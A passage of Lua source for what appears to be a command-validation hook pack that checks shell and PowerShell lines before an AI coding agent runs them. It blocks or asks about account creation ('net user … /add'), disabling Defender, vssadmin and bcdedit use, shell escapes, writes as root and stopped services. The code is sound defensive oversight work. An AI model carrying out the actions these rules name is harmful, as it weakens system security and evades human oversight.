    return not (c.params.whatif or re.match("(?i)-whatif\\b", line)) and BY_NAME.power
  elseif PWSH_ACCOUNTS[n] then
    return BY_NAME.accounts
  elseif n == "net" or n == "net1" then
    local ts = {}
    for _, a in ipairs(c.args) do ts[#ts + 1] = a.text:lower() end
    return net_account(ts) and BY_NAME.accounts
  elseif n == "set-mppreference" or n == "add-mppreference" then
    return defender_off(c, line) and BY_NAME["security-services"]
  elseif WIN.names[n] then
    return BY_NAME[WIN.rule(n, WIN.texts(c)) or ""] or false
  end
  return false
end

-- judge_pwsh returns the rule a PowerShell line breaks, or nil, and the
-- parser's error.
local function judge_pwsh(line)
  local cmds, err = pwsh.parse(line)
  for _, c in ipairs(cmds) do
    local r = pwsh_rule(c, line)
    if r then return r end
  end
  return nil, err
end

local function deny(r)
  return hook.deny("system pack: blocked " .. r.why .. " [rule " .. r.name .. "]; " .. r.instead .. ".")
end

-- ESCAPES is the shell-escape rule's verdict (SETTINGS.escapes; "allow" or
-- the rule named in allow turns it off).
local ESCAPES = not ALLOWED["shell-escape"] and SETTINGS.escapes ~= "allow" and SETTINGS.escapes or nil
local ESCAPE_REASON = "a shell started where no hook sees what it runs (an interactive shell, or a program told " ..
  "to start one) [rule shell-escape]; run the commands you need on the command line itself, or ask the user."
local function escaped()
  if ESCAPES == "deny" then return hook.deny("system pack: blocked " .. ESCAPE_REASON) end
  return hook.ask("system pack: asking about " .. ESCAPE_REASON)
end

-- The as-root and service-stop rules' verdicts (SETTINGS.as_root,
-- SETTINGS.service_stops; "allow" or the rule named in allow turns one
-- off), and what each says.
local function verdict(rule, setting)
  return not ALLOWED[rule] and setting ~= "allow" and setting or nil
end
local AS_ROOT = verdict("as-root", SETTINGS.as_root)
local STOPS = verdict("service-stop", SETTINGS.service_stops)
local AS_ROOT_REASON = "a command run as root that does more than read (it may write any file, load code or " ..
  "start a shell as root) [rule as-root]; run it without sudo, or let the user run it."
local STOP_REASON = "stopping a service of the machine [rule service-stop]; restart or reload it if you must " ..
  "(systemctl restart NAME), or let the user stop it."
local function pending_verdict(setting, why)
  if setting == "deny" then return hook.deny("system pack: blocked " .. why) end
  return hook.ask("system pack: asking about " .. why)
end

-- SUBSTS: the ways a command is reached by its output being used, not run
-- by the command before it ($(…) in the next command's words).
local SUBSTS = set({ "$(", "`", "<(", ">(" })

hook.register("PreToolUse", "@shell", function(input)
  -- The command line, read here as shell.command reads it: a hook that
  -- hands no table of its input to another function keeps the input's
  -- tables for the next call (the usual call allocates nothing).
  local args = input.toolInput
  local line = type(args) == "table" and (args.command or args.cmd) or nil
  if type(line) == "table" then
    local parts = {}
    for _, a in ipairs(line) do parts[#parts + 1] = shell.quote(tostring(a)) end
    line = table.concat(parts, " ")
  elseif type(line) ~= "string" then
    return nil
  end
  if #line < QUICK_MAX and not re.match(QUICK_STOP, line) and not re.match(WIN.quick, line) then return nil end
  local cwd = input.cwd
  local tool = pwsh.tool(input.toolName)
  if tool then
    -- the PowerShell tool's line, read as PowerShell; the rules below
    -- read it as a shell line too (vssadmin, bcdedit, net are programs
    -- in both)
    local r = judge_pwsh(line)
    if r then return deny(r) end
  end
  local cmds, err = shell.parse(line)
  local ctx = { cmds = cmds }
  local ps = false
  -- a shell escape is asked about once every command passed the rules
  local pending = ESCAPES and escape_vars(line)
  local root_pending, stop_pending = false, false
  -- the folders a root mkdir on the line made
  local made = {}
  -- the depth of the last command run as root whose code runs nested
  -- commands (sudo sh -c '…', sudo find -exec …): the commands after it
  -- deeper down (or its find -exec actions) run as root too
  local root_depth
  for _, c in ipairs(cmds) do
    local d = c.depth or 0
    if root_depth and (d > root_depth and not (d == root_depth + 1 and SUBSTS[c.via or ""])
      or (d == root_depth and (c.via or ""):find("^find"))) then
      c.system_root = true
    else
      root_depth = nil
      if c.wrappers[1] and own_root(c) then
        c.system_root = true
        root_depth = d
      end
    end
    for _, r in ipairs(active) do
      if r.check(c, cwd, ctx) then return deny(r) end
    end
    if WIN.names[c.name or ""] then
      local r = BY_NAME[WIN.rule(c.name, WIN.texts(c)) or ""]
      if r then return deny(r) end
    end
    if ESCAPES and not pending then pending = escape(c) or written_escape(c) end
    if AS_ROOT and not root_pending then root_pending = as_root(c, cwd, made) end
    if STOPS and not stop_pending then stop_pending = service_stop(c) end
    ps = ps or PWSH_NAMES[c.name or ""] == true
    if pwsh.CMD[c.name or ""] then
      -- cmd /c net user … /add
      for _, x in ipairs((pwsh.cmd(c.args))) do
        local r = pwsh_rule(x, line)
        if r then return deny(r) end
      end
    end
    if pwsh.HOSTS[c.name or ""] then
      local inv = pwsh.invocation(c.args)
      local r = inv.code and judge_pwsh(inv.code)
      if r then return deny(r) end
    end
  end
  if not tool and (ps or pwsh.looks(line)) then
    -- a PowerShell line a tool of another name runs (Cursor's Shell): one
    -- that reads as PowerShell, or runs a cmdlet these rules look at
    local r = judge_pwsh(line)
    if r then return deny(r) end
  end
  if err then
    return hook.deny("system pack: blocked a command that could not be checked (" .. err ..
      ") [rule parse]; split it into shorter commands.")
  end
  -- denials first, then asks
  if root_pending and AS_ROOT == "deny" then return pending_verdict(AS_ROOT, AS_ROOT_REASON) end
  if stop_pending and STOPS == "deny" then return pending_verdict(STOPS, STOP_REASON) end
  if pending and ESCAPES == "deny" then return escaped() end
  if stop_pending then return pending_verdict(STOPS, STOP_REASON) end
  if root_pending then return pending_verdict(AS_ROOT, AS_ROOT_REASON) end
  if pending then return escaped() end
end, { name = "pack-system", stage = "validate", timeout_ms = 1000, failure_policy = "closed", policy = true })
